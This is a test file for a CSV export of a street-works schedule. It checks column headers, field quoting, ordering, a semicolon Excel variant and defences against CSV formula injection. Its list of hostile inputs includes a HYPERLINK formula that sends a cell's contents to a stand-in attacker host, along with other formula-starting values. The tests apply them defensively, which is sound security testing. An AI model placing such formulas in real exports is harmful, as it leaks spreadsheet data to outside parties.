import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, csvField, planToCsv } from '../../server/exports/plan-csv.ts';
import { readCsv } from './read-back.ts';
import { samplePlan, scheduledWorks } from './sample-plan.ts';

describe('the plan as CSV', () => {
  const plan = samplePlan();

  it('writes a header and one row per scheduled work, every row as wide as the header', () => {
    const rows = readCsv(planToCsv(plan));
    // Dutch by default since issue 11; English gives the column ids scripts read.
    expect(rows[0]).toEqual(['opening', 'segment', 'straat', 'opening_start', 'opening_einde', 'volgorde', 'werk', 'soort', 'eigenaar', 'naam', 'start', 'einde', 'dagen', 'verschuiving_dagen', 'toelichting']);
    expect(readCsv(planToCsv(plan, { language: 'en' }))[0]).toEqual([...CSV_COLUMNS]);
    expect(rows).toHaveLength(scheduledWorks(plan).length + 1);
    for (const row of rows) expect(row).toHaveLength(CSV_COLUMNS.length);
  });

  it('round-trips a name with a quote and a semicolon, and an explanation with commas', () => {
    const rows = readCsv(planToCsv(plan));
    const col = (name: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(name);
    const fibre = rows.find((r) => r[col('work_id')] === 'w-17')!;
    expect(fibre[col('name')]).toBe('Glasvezel "Bospolder"; fase 2');
    const paving = rows.find((r) => r[col('work_id')] === 'w-18')!;
    expect(paving[col('explanation')]).toBe('paving on Heemraadsplein moved 1 week later to follow the fibre, cables');
    expect(paving[col('shift_days')]).toBe('7');
  });

  it('lists openings in time order and the works of each in depth order, numbered from 1', () => {
    const rows = readCsv(planToCsv(plan)).slice(1);
    const starts = rows.map((r) => r[3]!);
    expect([...starts].sort()).toEqual(starts);
    const hudson = rows.filter((r) => r[0] === 'op-hud-1-2026');
    expect(hudson.map((r) => [r[5], r[7]])).toEqual([['1', 'sewer'], ['2', 'heat'], ['3', 'connections'], ['4', 'paving']]);
  });

  it('writes the Dutch Excel flavour with semicolons and a byte order mark when asked', () => {
    const text = planToCsv(plan, { delimiter: ';', bom: true });
    expect(text.startsWith('\uFEFFopening;segment;straat;')).toBe(true);
    const rows = readCsv(text.slice(1), ';');
    expect(rows).toHaveLength(scheduledWorks(plan).length + 1);
    expect(rows.find((r) => r[6] === 'w-17')![9]).toBe('Glasvezel "Bospolder"; fase 2');
  });

  it('quotes a field only when it holds the delimiter, a quote or a line break', () => {
    expect(csvField('plain', ',')).toBe('plain');
    expect(csvField('a;b', ',')).toBe('a;b');
    expect(csvField('a;b', ';')).toBe('"a;b"');
    expect(csvField('say "hi"', ',')).toBe('"say ""hi"""');
    expect(csvField('two\nlines', ',')).toBe('"two\nlines"');
  });
});

describe('cells that a spreadsheet would run as a formula (CSV injection)', () => {
  const HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"klik")', '+31 10 123', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];

  /** The sample plan with hostile text in every text column a party controls: street, owner, name, explanation. */
  function hostilePlan() {
    const plan = samplePlan();
    let n = 0;
    const next = () => HOSTILE[n++ % HOSTILE.length]!;
    for (const opening of plan.openings) {
      opening.street = next();
      for (const work of opening.works) Object.assign(work, { owner: next(), name: next(), explanation: next() });
    }
    return plan;
  }

  it.each([
    ['comma', {}, ','],
    ['semicolon with BOM', { delimiter: ';', bom: true }, ';'],
  ] as const)('are written with a leading quote in the %s flavour, so no data cell starts like a formula', (_, options, delimiter) => {
    const text = planToCsv(hostilePlan(), options);
    const rows = readCsv(text.replace(/^\uFEFF/, ''), delimiter).slice(1);
    const fields = rows.flat();
    for (const value of HOSTILE) expect(fields).toContain(`'${value}`);
    const formulaLike = fields.filter((f) => /^[=+\-@\t\r]/.test(f) && !/^-\d+$/.test(f));
    expect(formulaLike).toEqual([]);
  });

  it('keeps numbers as numbers: a negative shift is written -120, not as text', () => {
    const rows = readCsv(planToCsv(hostilePlan())).slice(1);
    expect(rows.flat()).toContain('-120');
    expect(rows.flat()).not.toContain("'-120");
  });

  it('quotes a neutralised cell and doubles its inner quotes', () => {
    expect(csvField('=1+1', ',')).toBe(`"'=1+1"`);
    expect(csvField('@x "y"', ';')).toBe(`"'@x ""y"""`);
    expect(csvField('-', ',')).toBe(`"'-"`);
    expect(csvField('a-b=c', ',')).toBe('a-b=c');
  });
});
